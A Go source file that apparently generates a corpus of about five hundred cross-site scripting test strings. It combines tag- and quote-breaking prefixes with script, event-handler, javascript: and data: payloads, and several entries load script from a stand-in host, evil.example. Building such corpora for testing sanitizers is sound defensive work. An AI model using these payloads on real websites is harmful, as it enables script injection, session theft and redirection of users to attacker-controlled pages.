package injection

import "slices"

// family is one context: every way out of it with everything to do then.
type family struct{ out, then []string }

// Texts are the five hundred, each once, in an order that stays.
func Texts() []string {
	var list []string
	for _, f := range families() {
		for _, out := range f.out {
			for _, then := range f.then {
				list = append(list, out+then)
			}
		}
	}
	for _, single := range singles {
		list = append(list, single...)
	}
	return list[:len(list):len(list)]
}

func families() []family {
	quotes := []string{`" `, `' `, "` ", `x `, `"/`, `'/**/`}
	links := []string{"", `"><a href="`, `[x](`}
	return []family{
		{waysOut, elements},
		{quotes, attributes},
		{links, slices.Concat(addresses, otherSchemes)},
	}
}

// waysOut end the element in which a page shows a text.
var waysOut = []string{``, `">`, `'>`, `</textarea>`, `</title>`, `</script>`, `</option></select>`, `-->`, `</noscript>`, `</style>`}

// elements act as soon as they stand in a document.
var elements = []string{
	`<script>alert(1)</script>`, `<ScRiPt/x src=//evil.example/a.js>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `<iframe src=javascript:alert(1)>`,
	`<body onpageshow=alert(1)>`, `<details open ontoggle=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<object data=//evil.example>`, `<embed src=//evil.example>`,
	`<video><source onerror=alert(1)>`, `<style>@import"//evil.example"</style>`, `<base href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
}

// attributes act within a tag once its quotes are broken.
var attributes = []string{
	`autofocus onfocus=alert(1) x=`, `onerror=alert(1) src=x `, `onmouseover=alert(1) `, `onpointermove=alert` + "`1`" + ` `, `onanimationstart=alert(1) style=animation-name:x `,
	`onclick=alert(1) accesskey=x `, `formaction=javascript:alert(1) type=submit `, `onbeforetoggle=alert(1) popover `, `style=background:url(//evil.example) `, `oncontentvisibilityautostatechange=alert(1) `,
}

// addresses run where a text becomes the address of a link or a form.
var addresses = []string{
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `javascript://%0aalert(1)`, `javascript:/*--></title>*/alert(1)`, ` javascript:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", `javascript&colon;alert(1)`,
	`&#106;avascript:alert(1)`, `&#x6A;avascript&#x3A;alert(1)`, `javascript://bank.example.com.tw/%250aalert(1)`,
}

// otherSchemes load or run what somebody else wrote.
var otherSchemes = []string{
	`data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=alert(1) xmlns="http://www.w3.org/2000/svg"/>`,
	`vbscript:msgbox(1)`, `//evil.example/`, `\\evil.example\x`, `/\evil.example`, `https:evil.example`, `view-source:javascript:alert(1)`, `blob:https://evil.example/1`, `feed:javascript:alert(1)`,
	`https://portal.example.gov.tw@evil.example/`,
}

// singles are texts that each break a rule of their own.
var singles = [][]string{nested, foreign, mutating, engines, styles, scripts, encoded, headers, markup}
